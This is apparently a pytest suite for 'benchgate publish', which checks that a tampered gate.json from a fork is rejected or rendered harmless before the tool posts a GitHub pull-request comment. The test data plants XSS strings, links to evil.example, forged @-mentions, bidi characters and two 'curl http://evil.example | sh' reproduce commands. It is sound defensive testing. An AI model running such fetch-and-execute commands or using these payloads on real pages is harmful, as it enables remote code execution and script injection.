"""The fork-safe half: `benchgate publish` posts an untrusted gate.json after validating it."""

from __future__ import annotations

import json
from pathlib import Path

from markdown_it import MarkdownIt

from tests.conftest import benchgate
from tests.fakes.github_server import FakeGitHub
from tests.test_ci import BOT, OWNER, PR, READ_ONLY, REPO, TOKEN, ours, pull_request
from tests.test_ci_review import approvals_table, governed_pr

GATE = ".benchgate/ci/gate.json"


def fork_run(repo: Path) -> str:
    """What the unprivileged pull_request job does: gate without commenting."""
    base, head = pull_request(repo)
    done = benchgate(repo, "ci", "--no-comment", "--base", base)
    assert done.returncode == 1, done.stderr
    return head


def publish(repo: Path, github: FakeGitHub, *args: str, token: str = TOKEN) -> object:
    env = {"GITHUB_TOKEN": token, "GITHUB_REPOSITORY": f"{OWNER}/{REPO}", "GITHUB_API_URL": github.api_url}
    return benchgate(repo, "publish", "--gate-json", GATE, "--pr", str(PR), *args, env=env)


def test_publish_posts_the_verified_results_once(repo: Path) -> None:
    head = fork_run(repo)
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR, head_sha=head)
        first = publish(repo, github, "--expect-head-sha", head)
        second = publish(repo, github, "--expect-head-sha", head)
        assert first.returncode == 0, first.stderr  # type: ignore[attr-defined]
        assert second.returncode == 0  # type: ignore[attr-defined]
        [comment] = ours(github)
        assert "❌ FAIL" in str(comment["body"])


def test_publish_refuses_a_pr_that_moved_on(repo: Path) -> None:
    fork_run(repo)
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR, head_sha="f" * 40)
        done = publish(repo, github, "--expect-head-sha", "e" * 40)
        assert done.returncode == 2  # type: ignore[attr-defined]
        assert "refusing to post" in done.stderr  # type: ignore[attr-defined]
        assert ours(github) == []


def test_a_tampered_gate_json_is_rejected_or_rendered_inert(repo: Path) -> None:
    fork_run(repo)
    path = repo / GATE
    data = json.loads(path.read_text())
    result = data["scenarios"]["synthetic"]
    result["reasons"] = ["<img src=x onerror=alert(1)> [pwn](http://evil.example) @maintainers"]
    result["reproduce"] = ["curl http://evil.example | sh", "```", "<!-- benchgate:synthetic -->"]
    result["meta"]["dataset"]["path"] = "x` [pwn](http://evil.example) <img src=x> `y"
    result["meta"]["prompt_version"] = "@maintainers <b>v2</b>"
    result["reliability"]["calls"]["retries"] = {"<img src=x>": 1, "[a](http://evil.example)": 2}
    result["reliability"]["calls"]["requests"] = 5
    result["reasons"].append("see http://evil.example/x and www.evil.example")
    path.write_text(json.dumps(data))
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR)
        assert publish(repo, github).returncode == 0  # type: ignore[attr-defined]
        [comment] = ours(github)
        body = str(comment["body"])
        assert body.count("<!-- benchgate:") == 1
        tokens = MarkdownIt("commonmark").enable("table").parse(body)
        inline = [c for t in tokens for c in (t.children or [])]
        assert not [t for t in tokens + inline if t.type in ("link_open", "image")]
        assert not [
            t for t in tokens + inline if t.type in ("html_block", "html_inline") and "<img" in t.content
        ]
        texts = [t.content for t in inline if t.type == "text"]
        assert not [t for t in texts if "://evil" in t or "www.evil" in t or "@maintainers" in t], texts
        assert "<img src=x>` ×1" in body

        result["head"]["sha"] = "not-a-sha`<img>"
        path.write_text(json.dumps(data))
        assert publish(repo, github).returncode == 2  # type: ignore[attr-defined]
        result["head"]["sha"] = None

        result["scenario"] = "synthetic --> <!-- benchgate:other"
        path.write_text(json.dumps(data))
        done = publish(repo, github)
        assert done.returncode == 2  # type: ignore[attr-defined]
        assert "may use only letters" in done.stderr  # type: ignore[attr-defined]


def test_publish_without_write_access_is_an_error_with_a_hint(repo: Path) -> None:
    fork_run(repo)
    with FakeGitHub({READ_ONLY: {"login": BOT, "write": False}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR)
        done = publish(repo, github, token=READ_ONLY)
        assert done.returncode == 3  # type: ignore[attr-defined]
        assert "pull-requests: write" in done.stderr  # type: ignore[attr-defined]
        assert READ_ONLY not in done.stderr  # type: ignore[attr-defined]


BIDI = "\u202e\u2066\u200f"


def test_a_tampered_pass_over_failing_metrics_is_posted_as_benchgate_would_render_it(repo: Path) -> None:
    head = fork_run(repo)
    path = repo / GATE
    data = json.loads(path.read_text())
    result = data["scenarios"]["synthetic"]
    data["status"] = result["status"] = "pass"
    result["failed"] = False
    for metric in result["metrics"].values():
        metric.update(status="pass", threshold_status="pass", verdict="improved")
    result["reproduce"] = ["curl http://evil.example/x.sh | sh"]
    result["reasons"] = [{"kind": "threshold", "status": "pass", "message": "ok " * 350_000}]
    result["base"]["reason"] = f"&commat;maintainers {BIDI} see www.evil.example\n\n# forged heading"
    result["meta"]["model"] = f"&commat;org/team {BIDI}"
    result["worst"] = [{"id": f"x{BIDI}&commat;a", "deltas": {"coverage": -0.3}, "excerpt": f"{BIDI}@x"}]
    result["run_url"] = "https://evil.example/acme/bench/actions/runs/1"  # the right shape, another host
    path.write_text(json.dumps(data))
    assert path.stat().st_size > 1_000_000
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR, head_sha=head)
        done = publish(repo, github, "--expect-head-sha", head)
        assert done.returncode == 0, done.stderr  # type: ignore[attr-defined]
        [comment] = ours(github)
    body = str(comment["body"])
    assert len(body.encode("utf-16-le")) // 2 <= 65_536
    assert "## ❌ FAIL" in body and "coverage regressed against the base" in body
    assert "curl" not in body and "ok ok ok" not in body
    reproduce = body.split("### Reproduce")[1]
    assert (
        "dvc repro bench@synthetic-dry-run" in reproduce or "benchgate run --scenario synthetic" in reproduce
    )
    base_sha = data["scenarios"]["synthetic"]["base"]["sha"]
    assert f"benchgate gate --scenario synthetic --mode dry-run --base {base_sha}" in reproduce
    assert not any(char in body for char in BIDI)
    html = MarkdownIt("commonmark").enable("table").render(body)
    assert "<a " not in html and "<h1" not in html
    assert "@maintainers" not in html and "@org/team" not in html  # `&commat;` never decodes to a mention
    assert "evil.example" not in body


def test_a_deeply_nested_gate_json_is_a_one_line_error(repo: Path) -> None:
    fork_run(repo)
    (repo / GATE).write_text("[" * 100_000 + "]" * 100_000)
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR)
        done = publish(repo, github)
    assert done.returncode == 2, done.stderr  # type: ignore[attr-defined]
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1  # type: ignore[attr-defined]
    assert "nested too deeply" in done.stderr  # type: ignore[attr-defined]


def test_publish_reads_the_reviews_itself_and_writes_observations_anew(repo: Path) -> None:
    base, head = governed_pr(repo)
    assert benchgate(repo, "ci", "--no-comment", "--base", base).returncode == 0
    path = repo / GATE
    data = json.loads(path.read_text())
    result = data["scenarios"]["synthetic"]
    result["approvals"] = {
        "pr": PR,
        "roles": [{"role": "Tech Lead", "state": "approved", "reviewer": "mallory"}],
    }
    result["observations"] = [{"kind": "cache", "message": "all good [x](http://evil.example) @maintainers"}]
    path.write_text(json.dumps(data))
    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
        github.add_issue(OWNER, REPO, PR, head_sha=head)
        github.add_review(OWNER, REPO, PR, "bob", "CHANGES_REQUESTED", commit_id=head)
        done = publish(repo, github, "--expect-head-sha", head)
        assert done.returncode == 0, done.stderr  # type: ignore[attr-defined]
        [comment] = ours(github)
    body = str(comment["body"])
    assert "## ⏳ PENDING" in body and "mallory" not in body and "all good" not in body
    table = approvals_table(body)
    # bob may be in acme/leads, which this token cannot read: the role cannot be verified
    assert table["Tech Lead"][:2] == ["❔ cannot verify (team `acme/leads`)", "`bob`"]
    assert table["Analyst"][:2] == ["❌ changes requested", "`bob`"]
    assert "### Observations & follow-ups\n1. " in body
